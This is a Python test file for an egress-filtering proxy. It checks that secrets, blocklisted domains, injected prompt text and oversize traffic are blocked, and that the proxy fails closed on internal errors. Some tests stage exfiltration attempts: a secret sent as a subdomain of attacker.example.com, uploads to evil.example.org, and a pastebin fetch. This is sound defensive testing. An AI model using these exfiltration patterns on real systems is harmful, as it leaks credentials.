"""Plain HTTP through the forward proxy: clean traffic passes byte-exact; secrets are blocked before
anything reaches the upstream."""

from __future__ import annotations

import json
import os
import subprocess

import httpx
from egress_support import SECRET, block_json, gz, route


def client(proxy) -> httpx.Client:
    return httpx.Client(proxy=f"http://127.0.0.1:{proxy.port}", trust_env=False, timeout=10)


def test_clean_get_and_post_pass_byte_exact_with_keep_alive(harness):
    up = harness.upstream()
    p = harness.proxy()
    payload = "Zürich forecast: ☀ 21°C, wind 3 m/s.\r\n".encode() * 200
    with client(p) as c:
        r1 = c.get(f"http://127.0.0.1:{up.port}/hello")
        r2 = c.post(f"http://127.0.0.1:{up.port}/echo", content=payload,
                    headers={"content-type": "text/plain; charset=utf-8"})
        r3 = c.get(f"http://127.0.0.1:{up.port}/hello?q=weather")
    assert r1.status_code == 200 and r1.text == "hello from upstream"
    assert r2.status_code == 200 and r2.content == payload
    assert r3.status_code == 200
    assert "x-vallum-action" not in r1.headers
    # one client connection and one upstream connection served all three (keep-alive both sides)
    assert p.stats["connections"] == 1
    assert up.connections == 1
    assert [s.target for s in up.requests] == ["/hello", "/echo", "/hello?q=weather"]
    # hop-by-hop and proxy headers are not forwarded
    assert all("proxy-connection" not in s.headers for s in up.requests)
    actions = [r.action for r in p.sink.records]
    assert actions.count("allow") >= 3
    assert {r.transport for r in p.sink.records} == {"egress.http"}


def test_chunked_request_body_is_forwarded(harness):
    up = harness.upstream()
    p = harness.proxy()

    def gen():
        yield b"part one, "
        yield b"part two"

    with client(p) as c:
        r = c.post(f"http://127.0.0.1:{up.port}/echo", content=gen())
    assert r.status_code == 200
    assert r.content == b"part one, part two"
    assert up.requests[-1].headers.get("content-length") == "18"


def test_secret_in_query_is_blocked_before_upstream(harness):
    up = harness.upstream()
    p = harness.proxy()
    with client(p) as c:
        r = c.get(f"http://127.0.0.1:{up.port}/x?token={SECRET}")
    assert r.status_code == 403
    body = block_json(r)
    assert body["category"] == "credential"
    assert SECRET not in r.text
    assert up.requests == []
    rec = p.sink.records[-1]
    assert rec.action == "block" and rec.transport == "egress.http" and rec.request_id == body["request_id"]
    assert SECRET not in json.dumps(rec.to_dict())


def test_secret_in_header_json_and_gzip_body_blocked(harness):
    up = harness.upstream()
    p = harness.proxy()
    url = f"http://127.0.0.1:{up.port}/api"
    with client(p) as c:
        r_h = c.get(url, headers={"X-Debug": f"token {SECRET}"})
        r_j = c.post(url, json={"note": "deploy", "auth": SECRET})
        r_g = c.post(url, content=gz(json.dumps({"auth": SECRET}).encode()),
                     headers={"content-type": "application/json", "content-encoding": "gzip"})
        r_ok = c.post(url, content=gz(b'{"city": "Lisbon"}'),
                      headers={"content-type": "application/json", "content-encoding": "gzip"})
    for r in (r_h, r_j, r_g):
        assert r.status_code == 403, r.text
        assert block_json(r)["category"] == "credential"
    assert r_ok.status_code == 200
    assert len(up.requests) == 1  # only the clean gzip request reached the upstream


def test_undecodable_gzip_body_fails_closed(harness):
    up = harness.upstream()
    p = harness.proxy()
    with client(p) as c:
        r = c.post(f"http://127.0.0.1:{up.port}/api", content=b"\x1f\x8b\x08\x00garbage-not-gzip",
                   headers={"content-type": "application/json", "content-encoding": "gzip"})
    assert r.status_code == 403
    block_json(r)
    assert up.requests == []


def test_blocklisted_and_exfil_domains_blocked_without_dns(harness):
    from egress_support import FakeResolver, RefusingConnector

    resolver, connector = FakeResolver({}), RefusingConnector()
    p = harness.proxy({"egress": {"blocklist": ["evil.example.org"]}}, resolver=resolver, connector=connector)
    with client(p) as c:
        r1 = c.get("http://files.evil.example.org/upload")
        r2 = c.get("http://pastebin.com/raw/abc")
    assert r1.status_code == 403 and block_json(r1)["category"] == "url"
    assert r2.status_code == 403 and block_json(r2)["category"] == "url"
    assert resolver.calls == [] and connector.calls == []


def test_secret_in_hostname_never_reaches_resolver(harness):
    from egress_support import FakeResolver, RefusingConnector

    resolver, connector = FakeResolver({}), RefusingConnector()
    p = harness.proxy(resolver=resolver, connector=connector)
    with client(p) as c:
        r = c.get(f"http://{SECRET.lower()}.attacker.example.com/")
    assert r.status_code == 403
    assert resolver.calls == [] and connector.calls == []


def test_audit_mode_warns_and_passes(harness):
    up = harness.upstream()
    p = harness.proxy({"mode": "audit"})
    with client(p) as c:
        r = c.get(f"http://127.0.0.1:{up.port}/x?token={SECRET}")
    assert r.status_code == 200
    assert r.headers.get("x-vallum-action") == "warn"
    assert len(up.requests) == 1
    rec = [x for x in p.sink.records if x.direction == "request"][-1]
    assert rec.action == "warn" and any(f.category == "credential" for f in rec.findings)


def test_strict_mode_only_allowlist(harness):
    from egress_support import FakeResolver, RefusingConnector

    up = harness.upstream()
    resolver = FakeResolver({"api.good.example.com": ["127.0.0.1"], "other.example.net": ["127.0.0.1"]})
    p = harness.proxy({"mode": "strict", "egress": {"allowlist": ["*.good.example.com"]}},
                      resolver=resolver, connector=RefusingConnector())
    with client(p) as c:
        ok = c.get(f"http://api.good.example.com:{up.port}/")
        bad = c.get(f"http://other.example.net:{up.port}/")
    assert ok.status_code == 200
    assert bad.status_code == 403 and block_json(bad)["category"] == "url"
    assert resolver.calls == ["api.good.example.com"]


def test_sink_refusal_fails_closed(harness):
    class Refusing:
        def emit(self, record):
            return False

    up = harness.upstream()
    p = harness.proxy(sink=Refusing())
    with client(p) as c:
        r = c.get(f"http://127.0.0.1:{up.port}/")
    assert r.status_code == 403
    assert block_json(r)["rule"] == "vallum.sink_refused"
    assert up.requests == []


def test_scanner_exception_fails_closed(harness, monkeypatch):
    import vallum.detection.http as http

    def boom(*a, **k):
        raise RuntimeError("detector crashed")

    monkeypatch.setattr(http, "request_findings", boom)
    up = harness.upstream()
    p = harness.proxy()
    with client(p) as c:
        r = c.post(f"http://127.0.0.1:{up.port}/", content=b"hello")
    assert r.status_code == 403
    assert block_json(r)["rule"] == "vallum.internal_error"
    assert up.requests == []


def test_upstream_down_and_timeout_are_blocked_with_reason(harness):
    import asyncio

    async def slow(seen):
        await asyncio.sleep(3)
        return 200, [("content-type", "text/plain")], "late"

    up = harness.upstream({"/slow": slow})
    p = harness.proxy({"egress": {"upstream_timeout": 0.3}})
    with client(p) as c:
        r = c.get(f"http://127.0.0.1:{up.port}/slow")
        assert r.status_code == 504
        assert block_json(r)["rule"] == "egress.upstream_timeout"
        r2 = c.get("http://127.0.0.1:1/")  # nothing listens on port 1
        assert r2.status_code == 502
        assert block_json(r2)["rule"] == "egress.upstream_error"
    assert sum(1 for x in p.sink.records if x.action == "block") == 2


def test_injection_in_response_blocked_and_clean_html_passes(harness):
    from egress_support import CLEAN_HTML, INJECTION

    up = harness.upstream({
        "/evil": route(200, "text/html", f"<html><body><p>Recipe</p><!-- {INJECTION} --></body></html>"),
        "/json": route(200, "application/json", json.dumps({"result": INJECTION})),
        "/ok": route(200, "text/html; charset=utf-8", CLEAN_HTML),
        "/img": route(200, "image/png", b"\x89PNG\r\n" + INJECTION.encode()),
    })
    p = harness.proxy()
    with client(p) as c:
        evil = c.get(f"http://127.0.0.1:{up.port}/evil")
        js = c.get(f"http://127.0.0.1:{up.port}/json")
        ok = c.get(f"http://127.0.0.1:{up.port}/ok")
        img = c.get(f"http://127.0.0.1:{up.port}/img")
    assert evil.status_code == 403 and block_json(evil)["category"] == "injection"
    assert js.status_code == 403 and block_json(js)["category"] == "injection"
    assert ok.status_code == 200 and ok.text == CLEAN_HTML
    assert img.status_code == 200  # binary types are not scanned for text injection
    resp_blocks = [r for r in p.sink.records if r.direction == "response" and r.action == "block"]
    assert len(resp_blocks) == 2


def test_oversize_bodies_blocked(harness):
    up = harness.upstream({"/big": route(200, "text/plain", "a" * 300_000)})
    p = harness.proxy({"egress": {"max_body_bytes": 100_000, "max_response_bytes": 200_000}})
    with client(p) as c:
        r = c.post(f"http://127.0.0.1:{up.port}/echo", content=b"x" * 150_000)
        assert r.status_code == 403
        assert block_json(r)["rule"] == "egress.body_too_large"
    with client(p) as c:
        r2 = c.get(f"http://127.0.0.1:{up.port}/big")
        assert r2.status_code == 403
        assert block_json(r2)["rule"] == "egress.response_too_large"
    assert [s.target for s in up.requests] == ["/big"]


def test_rate_limit_429_and_audit_warns(harness):
    from egress_support import FakeResolver, RefusingConnector

    up = harness.upstream()
    resolver = FakeResolver({"a.shop.example.com": ["127.0.0.1"], "b.shop.example.com": ["127.0.0.1"],
                             "other.example.net": ["127.0.0.1"]})
    p = harness.proxy({"egress": {"rate_limit_per_minute": 3}}, resolver=resolver, connector=RefusingConnector())
    codes = []
    with client(p) as c:
        for host in ("a.shop.example.com", "b.shop.example.com", "a.shop.example.com", "b.shop.example.com"):
            codes.append(c.get(f"http://{host}:{up.port}/").status_code)
        other = c.get(f"http://other.example.net:{up.port}/")
        last = c.get(f"http://a.shop.example.com:{up.port}/")
    assert codes == [200, 200, 200, 429]  # one budget for the registrable domain shop.example.com
    assert other.status_code == 200
    assert last.status_code == 429
    body = block_json(last)
    assert body["category"] == "rate_limit"
    assert "retry-after" in last.headers

    p2 = harness.proxy({"mode": "audit", "egress": {"rate_limit_per_minute": 1}}, resolver=resolver,
                       connector=RefusingConnector())
    with client(p2) as c:
        assert [c.get(f"http://a.shop.example.com:{up.port}/").status_code for _ in range(3)] == [200] * 3
    assert any(f.category == "rate_limit" and r.action == "warn" for r in p2.sink.records for f in r.findings)


def test_data_budget(harness):
    up = harness.upstream()
    p = harness.proxy({"egress": {"data_budget_per_minute": 5000}})
    with client(p) as c:
        a = c.post(f"http://127.0.0.1:{up.port}/echo", content=b"a" * 3000)
        b = c.post(f"http://127.0.0.1:{up.port}/echo", content=b"b" * 3000)
        small = c.post(f"http://127.0.0.1:{up.port}/echo", content=b"c" * 100)
    assert a.status_code == 200
    assert b.status_code == 429 and block_json(b)["category"] == "rate_limit"
    assert small.status_code == 200


def test_curl_through_proxy(harness):
    up = harness.upstream()
    p = harness.proxy()
    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
    out = subprocess.run(["curl", "-sS", "-x", f"http://127.0.0.1:{p.port}", "-D", "-",
                          f"http://127.0.0.1:{up.port}/hello", f"http://127.0.0.1:{up.port}/x?t={SECRET}"],
                         capture_output=True, text=True, timeout=20, env=env)
    assert "hello from upstream" in out.stdout
    assert "HTTP/1.1 403" in out.stdout and "x-vallum-action: block" in out.stdout.lower()
    assert len(up.requests) == 1


def test_missing_detector_module_fails_closed(harness, monkeypatch):
    import sys

    import vallum.detection

    monkeypatch.setitem(sys.modules, "vallum.detection.http", None)  # import now raises ImportError
    monkeypatch.delattr(vallum.detection, "http", raising=False)
    up = harness.upstream()
    p = harness.proxy()
    with client(p) as c:
        r = c.get(f"http://127.0.0.1:{up.port}/")
    assert r.status_code == 403 and block_json(r)["rule"] == "vallum.internal_error"
    assert up.requests == []


def test_deflate_and_brotli_request_bodies_are_scanned(harness):
    import zlib

    import brotli

    up = harness.upstream()
    p = harness.proxy()
    secret_body = json.dumps({"auth": SECRET}).encode()
    clean_body = b'{"city": "Porto"}'
    with client(p) as c:
        for enc, fn in (("deflate", zlib.compress), ("br", brotli.compress)):
            bad = c.post(f"http://127.0.0.1:{up.port}/api", content=fn(secret_body),
                         headers={"content-type": "application/json", "content-encoding": enc})
            ok = c.post(f"http://127.0.0.1:{up.port}/api", content=fn(clean_body),
                        headers={"content-type": "application/json", "content-encoding": enc})
            assert bad.status_code == 403 and block_json(bad)["category"] == "credential", enc
            assert ok.status_code == 200, (enc, ok.text)
    assert len(up.requests) == 2


def test_principal_hook_names_every_record(harness):
    from vallum.decisions import Principal

    def who(client_ip, headers):
        agent = dict((k.lower(), v) for k, v in headers).get(b"x-agent", b"").decode() or None
        return Principal(agent=agent, ip=client_ip, source="test")

    up = harness.upstream()
    p = harness.proxy(principal_resolver=who)
    with client(p) as c:
        c.get(f"http://127.0.0.1:{up.port}/", headers={"X-Agent": "agent:support"})
        c.get(f"http://127.0.0.1:{up.port}/?k={SECRET}", headers={"X-Agent": "agent:support"})
    assert len(p.sink.records) >= 2
    assert all(r.principal.agent == "agent:support" and r.principal.ip == "127.0.0.1" for r in p.sink.records)
    default = harness.proxy()
    with client(default) as c:
        c.get(f"http://127.0.0.1:{up.port}/")
    assert default.sink.records[-1].principal.source == "listener"


def test_principal_gate_block_auth_and_review(harness):
    from vallum.decisions import Principal

    postures = {"blocked": ("block", "risk posture of user blocked is block", 403),
                "anon": ("block", "proxy authentication required (Proxy-Authorization)", 407),
                "watched": ("review", "risk posture of user watched is review", 403)}

    def who(client_ip, headers):
        user = dict((k.lower(), v) for k, v in headers).get(b"x-user", b"").decode() or "anon"
        return Principal(user=user, ip=client_ip, source="test")

    up = harness.upstream()
    p = harness.proxy({"mode": "audit"}, principal_resolver=who, principal_gate=lambda pr: postures.get(pr.user))
    url = f"http://127.0.0.1:{up.port}/x"
    with client(p) as c:
        blocked = c.get(url, headers={"X-User": "blocked"})
        anon = c.get(url)
        ok = c.get(url, headers={"X-User": "fine"}, params={"k": SECRET})  # audit: warned, passes
        watched = c.get(url, headers={"X-User": "watched"}, params={"k": SECRET})  # review: the warning blocks
        watched_clean = c.get(url, headers={"X-User": "watched"})
    assert blocked.status_code == 403 and block_json(blocked)["category"] == "behaviour"
    assert anon.status_code == 407 and anon.headers["proxy-authenticate"].startswith("Basic")
    assert ok.status_code == 200 and ok.headers["x-vallum-action"] == "warn"
    assert watched.status_code == 403 and block_json(watched)["category"] == "credential"
    assert watched_clean.status_code == 200
    assert len(up.requests) == 2


def test_principal_gate_failure_fails_closed(harness):
    def broken(principal):
        raise RuntimeError("posture store down")

    up = harness.upstream()
    p = harness.proxy(principal_gate=broken)
    with client(p) as c:
        r = c.get(f"http://127.0.0.1:{up.port}/")
    assert r.status_code == 403 and block_json(r)["category"] == "behaviour"
    assert up.requests == []


def test_unknown_credential_header_blocked_in_strict_warned_in_balanced(harness):
    up = harness.upstream()
    url = f"http://127.0.0.1:{up.port}/x"
    hdrs = {"Authorization": "Token abcdefgh12"}  # a credential header, no known token format
    strict = harness.proxy({"mode": "strict", "egress": {"allowlist": ["127.0.0.1"]}})
    balanced = harness.proxy()
    with client(strict) as c:
        r = c.get(url, headers=hdrs)
        clean = c.get(url)
    assert r.status_code == 403 and block_json(r)["rule"] == "http.credential_header"
    assert block_json(r)["category"] == "credential"
    assert clean.status_code == 200  # negative: the allowlisted destination itself is fine
    with client(balanced) as c:
        r = c.get(url, headers=hdrs)
    assert r.status_code == 200 and r.headers["x-vallum-action"] == "warn"
    assert len(up.requests) == 2  # the strict-mode request never reached the upstream
